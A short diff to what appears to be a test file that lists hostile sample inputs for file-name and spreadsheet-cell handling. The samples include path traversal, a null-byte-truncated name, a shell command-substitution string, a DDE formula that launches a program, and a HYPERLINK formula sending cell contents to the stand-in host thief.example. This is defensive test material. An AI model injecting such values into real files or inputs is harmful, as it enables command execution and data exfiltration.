@@ -24,7 +24,7 @@ TEXTS = {
     "a device with an ending": "nul.txt",
     "a name that ends early": "x.csv\0.exe",
     "an encoded step up": "%2e%2e%2f%2e%2e%2fx",
-    "a command": "$(touch /tmp/evil); `id` | sh & x",
+    "a command": "$(touch evil-cell); `id` | sh & x",
     "a formula": "=1+1",
     "a call of a program": "=cmd|' /C calc'!A0",
     "a link that tells": '=HYPERLINK("https://thief.example/?x="&A1,"open")',
